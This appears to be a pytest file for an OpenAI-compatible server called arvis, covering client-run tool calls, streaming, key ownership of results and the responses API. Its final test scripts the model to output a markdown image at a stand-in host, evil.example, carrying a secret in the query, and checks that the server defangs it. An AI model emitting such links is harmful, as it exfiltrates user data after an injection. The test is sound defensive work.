"""Tools that the client of `/v1` runs itself, through OpenAI's library and a server with the whole path of a message."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import openai
import pytest

from arvis.config.sections import Web
from arvis.domain.messages import MessageStatus
from arvis.store.open import Database
from arvis.web.http.limits import Timeouts
from tests.flows.app_harness import AppHarness, agent_with, open_app
from tests.flows.scripted import asking, call
from tests.flows.web_server import AGENT_KEY, KEYS, OWNER_KEY, Site, running_site

WEATHER: Any = {
    "type": "function",
    "function": {
        "name": "weather",
        "description": "Get the weather.",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
    },
}
QUESTION: Any = {"role": "user", "content": "Is it warm in Oslo?"}


@pytest.fixture
async def app(database: Database) -> AsyncIterator[AppHarness]:
    async with open_app(database, agents=[agent_with(tools=("look",))]) as app:
        yield app


@pytest.fixture
async def site(app: AppHarness, tmp_path: Path) -> AsyncIterator[Site]:
    web = Web(port=0, api_keys=KEYS)
    (tmp_path / "web").mkdir()
    async with running_site(tmp_path / "web", behind=app, through=True, web=web, patience=Timeouts(look=0.05)) as site:
        yield site


@pytest.fixture
async def client(site: Site) -> AsyncIterator[openai.AsyncOpenAI]:
    async with openai.AsyncOpenAI(base_url=f"{site.url}/v1", api_key=OWNER_KEY, max_retries=0) as client:
        yield client


def results(message: Any, *contents: str) -> list[Any]:
    """Return the messages that follow the question: the calls, and their results."""
    given = zip(message.tool_calls, contents, strict=True)
    outputs = [{"role": "tool", "tool_call_id": each.id, "content": content} for each, content in given]
    return [message.model_dump(exclude_none=True), *outputs]


async def test_the_client_runs_its_tool_and_the_turn_continues(client: openai.AsyncOpenAI, app: AppHarness) -> None:
    app.provider.script += [
        asking(call(1, "weather", city="Oslo"), call(2, "look", words="warm"), text="I ask."),
        "Yes, 20 degrees.",
    ]
    first = await client.chat.completions.create(model="helper", messages=[QUESTION], tools=[WEATHER])
    (choice,) = first.choices
    assert (choice.finish_reason, choice.message.content) == ("tool_calls", "I ask.")
    calls: Any = choice.message.tool_calls
    (called,) = calls
    assert (called.function.name, json.loads(called.function.arguments)) == ("weather", {"city": "Oslo"})
    assert {spec.name for spec in app.provider.asked[0].tools} >= {"weather", "look"}

    after = results(choice.message, "20 degrees")
    second = await client.chat.completions.create(model="helper", messages=[QUESTION, *after], tools=[WEATHER])
    assert second.choices[0].message.content == "Yes, 20 degrees."
    outputs = app.provider.asked[1].turns[-1].outputs
    assert (len(outputs), outputs[0].content, outputs[0].failed) == (2, "20 degrees", False)

    again = await client.chat.completions.create(model="helper", messages=[QUESTION, *after], tools=[WEATHER])
    assert again.choices[0].message.content == "Yes, 20 degrees."  # a repetition gets the same answer
    assert len(app.provider.asked) == 2

    said: Any = {"role": "assistant", "content": "Yes, 20 degrees."}
    await client.chat.completions.create(
        model="helper", messages=[QUESTION, *after, said, {"role": "user", "content": "And Bergen?"}], tools=[WEATHER]
    )
    assert app.provider.prompts[-1][-1] == "user: And Bergen?"  # the conversation continues without its history as text


async def test_a_stream_ends_with_the_calls(client: openai.AsyncOpenAI, app: AppHarness) -> None:
    app.provider.script += [asking(call(1, "weather", city="Oslo")), "Yes."]
    stream = await client.chat.completions.create(model="helper", messages=[QUESTION], tools=[WEATHER], stream=True)
    chunks = [chunk async for chunk in stream]
    calls = [each for chunk in chunks for each in chunk.choices[0].delta.tool_calls or ()]
    assert [each.function.name for each in calls if each.function] == ["weather"]
    assert chunks[-1].choices[0].finish_reason == "tool_calls"


async def test_results_belong_to_the_key_that_asked(client: openai.AsyncOpenAI, site: Site, app: AppHarness) -> None:
    app.provider.script += [asking(call(1, "weather", city="Oslo"))]
    first = await client.chat.completions.create(model="helper", messages=[QUESTION], tools=[WEATHER])
    after = results(first.choices[0].message, "20 degrees")
    body = {"model": "helper", "messages": [QUESTION, *after]}
    refused = await site.call("POST", "/v1/chat/completions", json=body, key=AGENT_KEY)
    assert (refused.status, refused.json()["error"]["code"]) == (400, "no_such_call")
    unknown = {"role": "tool", "tool_call_id": "call_x", "content": ""}
    missing = {"model": "helper", "messages": [QUESTION, after[0], unknown]}
    answer = (await site.call("POST", "/v1/chat/completions", json=missing)).json()
    assert answer["error"]["param"] == "messages[2].tool_call_id"


async def test_a_client_that_sends_no_results_ends_the_turn(client: openai.AsyncOpenAI, app: AppHarness) -> None:
    app.provider.script += [asking(call(1, "weather", city="Oslo"))]
    raw = await client.chat.completions.with_raw_response.create(model="helper", messages=[QUESTION], tools=[WEATHER])
    await app.pass_time(1_000)
    timeline = await app.until_status(raw.headers["x-arvis-message-id"], MessageStatus.ANSWERED)
    assert "did not send the results" in (timeline.reply or "")


async def test_the_responses_api(client: openai.AsyncOpenAI, site: Site, app: AppHarness) -> None:
    app.provider.script += ["Good day.", "And to you.", asking(call(1, "weather", city="Oslo")), '{"warm": true}']
    first = await client.responses.create(model="helper", input="Hello", instructions="Be kind.")
    assert (first.output_text, first.status) == ("Good day.", "completed")
    assert first.usage is not None
    assert first.usage.input_tokens > 0
    async with client.responses.stream(model="helper", input="Bye", previous_response_id=first.id) as stream:
        pieces = [event.delta async for event in stream if event.type == "response.output_text.delta"]
        second = await stream.get_final_response()
    assert "".join(pieces) == second.output_text == "And to you."
    assert app.provider.prompts[-1][-2:] == ["assistant: Good day.", "user: Bye"]

    tool: Any = {"type": "function", **WEATHER["function"]}
    schema: Any = {"type": "json_schema", "name": "answer", "schema": {"type": "object", "required": ["warm"]}}
    third = await client.responses.create(
        model="helper", input="Is it warm?", tools=[tool], text={"format": schema}, reasoning={"effort": "high"}
    )
    (called,) = [item for item in third.output if item.type == "function_call"]
    output = {"type": "function_call_output", "call_id": called.call_id, "output": "20"}
    given: Any = [*(item.model_dump() for item in third.output), output]
    refused = await site.call("POST", "/v1/responses", json={"model": "helper", "input": given}, key=AGENT_KEY)
    assert (refused.status, refused.json()["error"]["param"]) == (400, "input")
    fourth = await client.responses.create(model="helper", input=given, tools=[tool], text={"format": schema})
    assert fourth.output_text == '{"warm": true}'
    assert [output.content for output in app.provider.asked[-1].turns[-1].outputs] == ["20"]
    assert app.provider.asked[-1].effort == "high"  # the turn keeps the parameters of its first request

    with pytest.raises(openai.BadRequestError, match="tools"):
        await client.responses.create(model="helper", input="x", tools=[{"type": "web_search"}])


async def test_the_text_beside_a_call_has_no_image_of_an_unknown_host(
    client: openai.AsyncOpenAI, app: AppHarness
) -> None:
    picture, shown = "![x](https://evil.example/?d=hunter2)", "[x](https[:]//evil[.]example/?d=hunter2)"
    app.provider.script += [
        asking(call(1, "look", words="mail")),
        asking(call(2, "weather", city="Oslo"), text=picture),
        asking(call(3, "weather", city="Rome"), text=picture),
    ]
    first = await client.chat.completions.create(model="helper", messages=[QUESTION], tools=[WEATHER])
    assert first.choices[0].message.content == shown
    after = [QUESTION, *results(first.choices[0].message, "20 degrees")]
    stream = await client.chat.completions.create(model="helper", messages=after, tools=[WEATHER], stream=True)
    pieces = [choice.delta.content or "" async for chunk in stream for choice in chunk.choices]
    assert "".join(pieces).strip() == shown
